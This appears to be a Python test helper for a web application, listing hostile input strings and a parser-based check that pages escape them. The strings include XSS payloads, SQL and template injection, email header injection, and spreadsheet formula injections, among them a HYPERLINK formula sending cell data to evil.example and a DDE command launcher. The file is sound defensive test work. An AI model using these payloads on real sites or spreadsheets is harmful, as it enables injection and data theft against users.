"""Hostile strings, and checks that a page shows them as text and never as markup.

Each string has a short id for test names. ``FITS`` are the ones short
enough for a 150-character name field; ``TOO_LONG`` must be refused with a
message wherever a length limit applies.
"""

from bs4 import BeautifulSoup

from academy.validators import UNPRINTABLE
from tests.utils import soup

LONG_NAME = "Amina " + "a" * 9_994
LONG_URL = "https://evil.example/" + "a/" * 2_500 + "?q=" + "x" * 3_000

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "img-onerror": '"><img src=x onerror=alert(1)>',
    "attr-break": "' onmouseover='alert(1)' x='",
    "svg-onload": "<svg/onload=alert(1)>",
    "a-javascript": '<a href="javascript:alert(1)">click</a>',
    "javascript-url": "javascript:alert(1)",
    "close-textarea": "</textarea><script>alert(1)</script>",
    "close-title": "</title><script>alert(1)</script>",
    "iframe": "<iframe src=//evil.example></iframe>",
    "rlo": "Amina \u202egnp.exe",
    "zero-width": "A\u200bmi\u200bna\ufeff Diallo",
    "emoji-zwj": "Amina 👩🏾\u200d💻 Diallo 👨\u200d👩\u200d👧\u200d👦 🇸🇳",
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "plus-cmd": "+cmd|' /C calc'!A0",
    "minus": "-1+1",
    "at-sum": "@SUM(1)",
    "tab-formula": "\t=1+1",
    "cr-formula": "\r=1+1",
    "sql-quote": "Robert'); DROP TABLE courses_cohort;--",
    "sql-or": "' OR '1'='1",
    "null-byte": "Amina\x00Diallo",
    "combining-flood": "Z" + "\u0336\u0317\u0353" * 40 + "algo",
    "arabic": "أمينة ديالو",
    "chinese": "李伟",
    "devanagari": "अमीना डायलो",
    "django-var": "{{ 7*7 }}",
    "django-tag": "{% debug %}",
    "placeholder": "{name} {course} {serial}",
    "newline-header": "a@b.c\nBcc: x@y.z",
    "long-name": LONG_NAME,
    "long-url": LONG_URL,
}

# Strings no 200-character field of the academy can hold.
TOO_LONG = {"long-name", "long-url"}
# Strings the name fields refuse outright: control characters (null, line
# breaks, tabs) and text-direction overrides (academy.validators).
# (Leading and trailing ones, as in "\t=1+1", are stripped by the form first.)
REFUSED_BY_FORMS = {key for key, value in HOSTILE.items() if UNPRINTABLE.search(value.strip())}
UNPRINTABLE_KEYS = {key for key, value in HOSTILE.items() if UNPRINTABLE.search(value)}
# The rest: strings a name field accepts and must show back as text.
FITS = {key: value for key, value in HOSTILE.items() if key not in TOO_LONG | UNPRINTABLE_KEYS}

# What the markup strings would leave in the page if they were not escaped.
_INJECTED_TAGS = ("img", "svg", "iframe")


def hostile_params(keys=None):
    """(id, value) pairs for ``pytest.mark.parametrize`` with readable ids."""
    import pytest

    # In HOSTILE's order, never a set's: parallel test workers must collect alike.
    chosen = HOSTILE if keys is None else {key: v for key, v in HOSTILE.items() if key in keys}
    return [pytest.param(value, id=key) for key, value in chosen.items()]


def injected_markup(document: BeautifulSoup) -> list[str]:
    """Elements and attributes in the page that only an unescaped hostile string would add.

    Parsed as a browser would, rather than searched as text: an event
    handler attribute anywhere, a ``javascript:`` link, a script running
    ``alert``, or the ``img``/``svg``/``iframe`` the strings carry.
    """
    found = []
    for tag in document.find_all(True):
        for attribute, value in tag.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            if attribute.lower().startswith("on"):
                found.append(f"<{tag.name} {attribute}={text!r}>")
            if attribute in ("href", "src", "action") and text.strip().lower().startswith(
                "javascript:"
            ):
                found.append(f"<{tag.name} {attribute}={text!r}>")
        if tag.name == "script" and "alert(" in (tag.string or ""):
            found.append(f"<script>{tag.string}</script>")
        if tag.name in _INJECTED_TAGS and tag.get("src") in ("x", "//evil.example"):
            found.append(str(tag)[:80])
    return found


def assert_shown_as_text(response, *values: str) -> BeautifulSoup:
    """The page answered, carries no injected markup, and shows each value as text.

    Values are compared with whitespace collapsed, as a browser shows them.
    """
    assert response.status_code < 500
    document = soup(response)
    assert injected_markup(document) == []
    text = " ".join(document.get_text(" ").split())
    for value in values:
        assert " ".join(value.split()) in text, f"{value[:60]!r} not shown"
    return document
